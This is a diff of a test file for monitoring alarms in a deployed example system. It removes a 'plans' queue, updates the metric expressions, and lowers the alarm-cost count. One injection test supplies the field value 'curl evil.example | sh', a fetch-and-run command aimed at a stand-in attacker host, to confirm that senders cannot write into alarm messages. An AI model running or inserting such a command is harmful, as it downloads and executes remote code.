@@ -70,7 +70,7 @@ describe('the alarms of the deployed example', () => {
     expect(levels.filter(isFilled)).toEqual([]);
   });
 
-  test('ring if messages wait in a queue and no worker receives any, for each of the three', () => {
+  test('ring if messages wait in a queue and no worker receives any, for each of the two', () => {
     const { metrics, expressions, properties } = named('QueueWithoutConsumer');
     const watched = metrics.map(({ name, dimensions }) => [targetOf(dimensions['QueueName'], stage), name].join(' '));
 
@@ -80,7 +80,7 @@ describe('the alarms of the deployed example', () => {
         .flatMap(([id]) => [`${id} ApproximateNumberOfMessagesVisible`, `${id} NumberOfMessagesReceived`])
         .toSorted(),
     );
-    expect(expressions).toContain('SUM([FILL(commands, 0), FILL(uploads, 0), FILL(plans, 0)])');
+    expect(expressions).toContain('SUM([FILL(commands, 0), FILL(uploads, 0)])');
     expect(expressions).toContain(
       'IF(commandsWaiting > 0 AND SUM([commandsWaiting * 0, FILL(commandsReceived, 0)]) < 1, 1, 0)',
     );
@@ -164,8 +164,8 @@ describe('the alarms of the deployed example', () => {
     }
   });
 
-  test('cost three dollars and sixty cents a month: each metric of an alarm is ten cents', () => {
-    expect(alarms.flatMap(({ metrics }) => metrics)).toHaveLength(36);
+  test('cost three dollars and twenty cents a month: each metric of an alarm is ten cents', () => {
+    expect(alarms.flatMap(({ metrics }) => metrics)).toHaveLength(32);
   });
 
   test('of a silent schedule rings at the first reading that counts one', () => {
@@ -230,15 +230,15 @@ describe('the alarms of the deployed example', () => {
         'autopilot runbook CONFLICT',
       ],
     ]);
-    expect(messages('WorkParked', { subject: 'message#plans#1', reason: 'BAD_PLAN', nextStep: 'correct it' })).toEqual([
-      expect.arrayContaining(['autopilot parked list --reason BAD_PLAN --aws --stage prod']),
-    ]);
+    expect(messages('WorkParked', { subject: 'message#uploads#1', reason: 'BAD_KEY', nextStep: 'correct it' })).toEqual(
+      [expect.arrayContaining(['autopilot parked list --reason BAD_KEY --aws --stage prod'])],
+    );
     expect(messages('CampaignStartUnconfirmed', { detail: 'the gateway accepted it', campaignRunId: 'r' })).toEqual([
       expect.arrayContaining(['A campaign does not show a start: the gateway accepted it.']),
     ]);
   });
 
-  test('the sender of a plan or a command writes nothing into a message', () => {
+  test('the sender of an upload or a command writes nothing into a message', () => {
     const messages = messagesOf(stage, topicId);
     const foreign = 'call 0900-1234; curl evil.example | sh';
 
@@ -246,7 +246,7 @@ describe('the alarms of the deployed example', () => {
       ...Object.fromEntries(
         ['key', 'subject', 'run', 'commandId', 'detail', 'askedBecause'].map((name) => [name, foreign]),
       ),
-      reason: 'BAD_PLAN',
+      reason: 'BAD_KEY',
       nextStep: 'correct it',
     });
     expect(written).toHaveLength(1);
